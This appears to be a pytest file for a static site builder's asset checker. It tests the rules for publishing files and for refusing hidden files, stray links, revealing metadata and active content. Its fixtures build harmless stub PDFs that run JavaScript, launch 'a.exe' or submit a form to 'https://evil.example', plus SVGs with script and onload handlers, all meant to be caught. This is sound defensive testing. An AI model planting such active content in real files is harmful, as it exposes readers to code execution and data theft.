"""static/: what is published as it is, and what never is."""

from __future__ import annotations

import io
import os
import unicodedata
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image, PngImagePlugin

from lantern.files import static
from tests.making import built, little, write


def paths(root: Path) -> tuple[list[str], list[tuple[str, str]]]:
    files, problems = static.read([(root, "static")])
    return [file.path for file in files], [(problem.path, problem.rule) for problem in problems]


def test_every_file_is_published_under_its_path_byte_for_byte(tmp_path: Path) -> None:
    write(tmp_path, {"z.txt": b"\x00\xff\r\n", "art/deep/lamp.svg": "<svg/>", "a b.txt": ""})
    files, problems = static.read([(tmp_path, "static")])
    assert [(file.path, file.data) for file in files] == [
        ("a b.txt", b""),
        ("art/deep/lamp.svg", b"<svg/>"),
        ("z.txt", b"\x00\xff\r\n"),
    ]
    assert problems == ()


def test_names_are_published_as_pages_write_them_whatever_the_disk_has(tmp_path: Path) -> None:
    """A Mac writes an accent as a letter of its own; pages are read in composed letters (NFC)."""
    composed = ["Ba\u0301o.svg", "cafe\u0301/mapa\u0303.svg", "\u1112\u1161\u11ab.svg", "o\u0323\u0302.svg"]
    write(tmp_path, dict.fromkeys(composed, "<svg/>"))
    found, problems = paths(tmp_path)
    assert (found, problems) == (sorted(unicodedata.normalize("NFC", name) for name in composed), [])


def test_two_names_that_are_one_to_readers_are_told(tmp_path: Path) -> None:
    write(tmp_path, {"caf\u00e9.svg": "<svg/>", "cafe\u0301.svg": "<svg/>"})
    if len(list(tmp_path.iterdir())) < 2:
        pytest.skip("this file system has one name for both")
    found, problems = paths(tmp_path)
    assert (found, problems) == (["caf\u00e9.svg"], [("static/caf\u00e9.svg", "collision")])


def test_two_spellings_of_a_folder_are_one_folder(tmp_path: Path) -> None:
    write(tmp_path, {"caf\u00e9/a.svg": "<svg/>", "cafe\u0301/b.svg": "<svg/>"})
    assert paths(tmp_path) == (["caf\u00e9/a.svg", "caf\u00e9/b.svg"], [])


def test_notes_for_people_stay_at_home(tmp_path: Path) -> None:
    write(tmp_path, {"README.md": "x", "art/README.md": "x", "ok.txt": "x"})
    assert paths(tmp_path) == (["ok.txt"], [])


def test_hidden_files_are_left_out_and_told_once(tmp_path: Path) -> None:
    write(tmp_path, {".env": "x", ".git/config": "x", ".git/HEAD": "x", "art/.htaccess": "x", "ok.txt": "x"})
    files, problems = static.read([(tmp_path, "static")])
    assert [file.path for file in files] == ["ok.txt"]
    assert [(told.path, told.rule, told.level) for told in problems] == [("static", "hidden", "info")]
    assert all(name in problems[0].text for name in (".env", ".git,", "art/.htaccess"))


def test_hidden_names_that_a_site_is_asked_for_are_published(tmp_path: Path) -> None:
    write(tmp_path, {".well-known/security.txt": "x", ".nojekyll": "", ".well-known/.secret": "x", "art/.nojekyll": ""})
    found, told = paths(tmp_path)
    assert found == [".nojekyll", ".well-known/security.txt"]
    assert told == [("static", "hidden")]


def test_what_programs_and_systems_left_is_told_by_name_and_not_published(tmp_path: Path) -> None:
    left = ["~$flyer.docx", "Thumbs.db", "desktop.ini", "__MACOSX/a", "__MACOSX/b", "flyer.pdf~", "art/.DS_Store", "art/x.bak"]
    write(tmp_path, dict.fromkeys([*left, "flyer.pdf", "art/x.txt"], "x"))
    found, told = paths(tmp_path)
    assert found == ["art/x.txt", "flyer.pdf"]
    wanted = {path if not path.startswith("__MACOSX") else "__MACOSX" for path in left}
    assert told == [(f"static/{path}", "leftover") for path in sorted(wanted)]


def test_the_sites_own_file_wins_over_lanterns(tmp_path: Path) -> None:
    write(tmp_path, {"engine/icon.txt": "old", "engine/other.txt": "o", "own/icon.txt": "new"})
    files, _ = static.read([(tmp_path / "engine", "engine"), (tmp_path / "own", "static"), (tmp_path / "none", "none")])
    assert {file.path: file.data for file in files} == {"icon.txt": b"new", "other.txt": b"o"}


@pytest.mark.parametrize("target", ["../secret.txt", "../folder", "nowhere", "ok.txt"])
def test_a_link_is_told_and_not_followed(tmp_path: Path, target: str) -> None:
    write(tmp_path, {"secret.txt": "s", "folder/inside.txt": "s", "static/ok.txt": "x"})
    (tmp_path / "static" / "link").symlink_to(target)
    assert paths(tmp_path / "static") == (["ok.txt"], [("static/link", "not-a-file")])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_what_is_no_file_is_told_and_not_opened(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    assert paths(tmp_path) == ([], [("static/pipe", "not-a-file")])


# --- what a file would run, or tell of people ------------------------------------------------------------------------


def pixels(kind: str, **named: Any) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(held, kind, **named)
    return held.getvalue()


def exif(*tags: tuple[int, object], place: bool = False) -> Image.Exif:
    found = Image.Exif()
    for tag, value in tags:
        found[tag] = value
    if place:
        found.get_ifd(0x8825)[2] = (42.0, 21.0, 30.0)
    return found


def words(key: str, value: str) -> PngImagePlugin.PngInfo:
    found = PngImagePlugin.PngInfo()
    found.add_text(key, value)
    return found


def document(**info: str) -> pikepdf.Pdf:
    made = pikepdf.new()
    made.add_blank_page()
    for key, value in info.items():
        made.docinfo[f"/{key}"] = value
    return made


def saved(made: pikepdf.Pdf, **named: Any) -> bytes:
    held = io.BytesIO()
    made.save(held, **named)
    return held.getvalue()


def acting(**action: Any) -> bytes:
    made = document()
    made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary({f"/{key}": value for key, value in action.items()}))
    return saved(made)


def annotated() -> bytes:
    made = document()
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("a.exe"))
    made.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=act)])
    return saved(made)


def attached() -> bytes:
    made = document()
    made.attachments["a.txt"] = b"x"
    return saved(made)


def described() -> bytes:
    made = document()
    with made.open_metadata(set_pikepdf_as_editor=False) as told:
        told["dc:creator"] = ["Ana"]
    del made.trailer["/Info"]
    return saved(made)


TELLING = {
    "author.jpg": pixels("JPEG", exif=exif((0x013B, "Ana"))),
    "place.jpg": pixels("JPEG", exif=exif(place=True)),
    "camera.jpg": pixels("JPEG", exif=exif((0x010F, "Lens & Co"), (0x0110, "X1"))),
    "program.jpeg": pixels("JPEG", exif=exif((0x0131, "Draw 2 (Ana's computer)"))),
    "comment.jpg": pixels("JPEG", comment=b"by Ana"),
    "xmp.jpg": pixels("JPEG", xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Ana</x:xmpmeta>"),
    "author.png": pixels("PNG", pnginfo=words("Author", "Ana")),
    "program.png": pixels("PNG", pnginfo=words("Software", "Draw 2")),
    "place.png": pixels("PNG", exif=exif((0x0112, 6), place=True)),
    "place.webp": pixels("WEBP", exif=exif(place=True)),
    "xmp.webp": pixels("WEBP", xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Ana</x:xmpmeta>"),
    "wrong-ending.txt": pixels("JPEG", exif=exif((0x013B, "Ana"))),
    "author.pdf": saved(document(Author="Ana")),
    "program.pdf": saved(document(Creator="Write 3", Producer="Print 4")),
    "xmp.pdf": described(),
}
RUNNING = {
    "javascript.pdf": acting(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
    "launch.pdf": acting(S=pikepdf.Name.Launch, F=pikepdf.String("a.exe")),
    "send.pdf": acting(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example")),
    "annotation.pdf": annotated(),
    "attachment.pdf": attached(),
}
SOUND = {
    "plain.jpg": pixels("JPEG", exif=exif((0x0112, 6)), dpi=(300, 300)),
    "plain.png": pixels("PNG", dpi=(300, 300)),
    "plain.webp": pixels("WEBP"),
    "plain.gif": pixels("GIF"),
    "plain.pdf": saved(document(Title="A door")),
    "own.pdf": saved(document()),
    "no-picture.png": b"x",
}


@pytest.mark.parametrize("name", TELLING)
def test_a_file_that_tells_of_its_maker_is_refused(tmp_path: Path, name: str) -> None:
    write(tmp_path, {name: TELLING[name]})
    _, problems = static.read([(tmp_path, "static")])
    assert [(told.path, told.rule, told.level) for told in problems] == [(f"static/{name}", "metadata", "error")]
    assert "as with: " in problems[0].hint


@pytest.mark.parametrize("name", RUNNING)
def test_a_pdf_that_runs_something_is_refused(tmp_path: Path, name: str) -> None:
    write(tmp_path, {name: RUNNING[name]})
    assert paths(tmp_path)[1] == [(f"static/{name}", "pdf-runs")]


def test_a_pdf_that_nobody_can_look_into_is_refused(tmp_path: Path) -> None:
    locked = saved(document(Author="Ana"), encryption=pikepdf.Encryption(user="u", owner="o"))
    write(tmp_path, {"locked.pdf": locked, "damaged.pdf": b"%PDF-1.7\nnothing"})
    assert paths(tmp_path)[1] == [("static/damaged.pdf", "unreadable"), ("static/locked.pdf", "unreadable")]


@pytest.mark.parametrize("name", SOUND)
def test_plain_pictures_and_pdfs_go_out_as_they_are(tmp_path: Path, name: str) -> None:
    write(tmp_path, {name: SOUND[name]})
    assert paths(tmp_path) == ([name], [])


def test_the_advice_on_pdfs_helps(tmp_path: Path) -> None:
    """The hint names options of qpdf, which pikepdf brings as a library."""
    write(tmp_path, {"old.pdf": saved(document(Author="Ana", Producer="Print 4"))})
    pikepdf.Job(["qpdf", "--remove-info", "--remove-metadata", str(tmp_path / "old.pdf"), str(tmp_path / "new.pdf")]).run()
    (tmp_path / "old.pdf").unlink()
    assert paths(tmp_path) == (["new.pdf"], [])


def test_a_drawing_that_runs_something_is_refused(tmp_path: Path) -> None:
    write(
        tmp_path,
        {"d.svg": "<svg/>", "a.svg": "<svg><script>x()</script></svg>", "b.SVG": '<svg onload="x()"/>', "c.svgz": b"\x1f\x8b"},
    )
    assert paths(tmp_path)[1] == [(f"static/{name}", "unsafe-svg") for name in ("a.svg", "b.SVG", "c.svgz")]


@pytest.mark.parametrize("target", ["../secret", "/etc"])
def test_a_folder_that_is_a_link_out_of_the_site_is_refused(tmp_path: Path, target: str) -> None:
    write(tmp_path, {"secret/key.txt": "s", "site/x": ""})
    (tmp_path / "site/static").symlink_to(target, target_is_directory=True)
    assert paths(tmp_path / "site/static") == ([], [("static", "not-a-file")])


def test_a_folder_that_is_a_link_inside_the_site_is_read(tmp_path: Path) -> None:
    write(tmp_path, {"assets/a.txt": "a"})
    (tmp_path / "static").symlink_to("assets", target_is_directory=True)
    assert paths(tmp_path / "static") == (["a.txt"], [])


@pytest.mark.parametrize("form", ["NFC", "NFD"])
@pytest.mark.parametrize("disk", ["NFC", "NFD"])
def test_a_page_finds_a_file_however_either_spells_its_accents(form: str, disk: str, tmp_path: Path) -> None:
    def spelled(text: str) -> str:
        return unicodedata.normalize("NFC" if form == "NFC" else "NFD", text)

    on_disk = unicodedata.normalize("NFC" if disk == "NFC" else "NFD", "café/plano.svg")
    root = little(tmp_path / "site", spelled("See [a map](../café/plano.svg), [below](#señal).\n\n## Sign {: #señal}"))
    write(root, {f"static/{on_disk}": '<svg xmlns="http://www.w3.org/2000/svg"/>'})
    site = built(root)
    page = site.text("en/index.html")
    assert "caf\u00e9/plano.svg" in site.files
    assert 'href="../caf\u00e9/plano.svg"' in page
    assert 'href="#se\u00f1al"' in page
    assert 'id="se\u00f1al"' in page
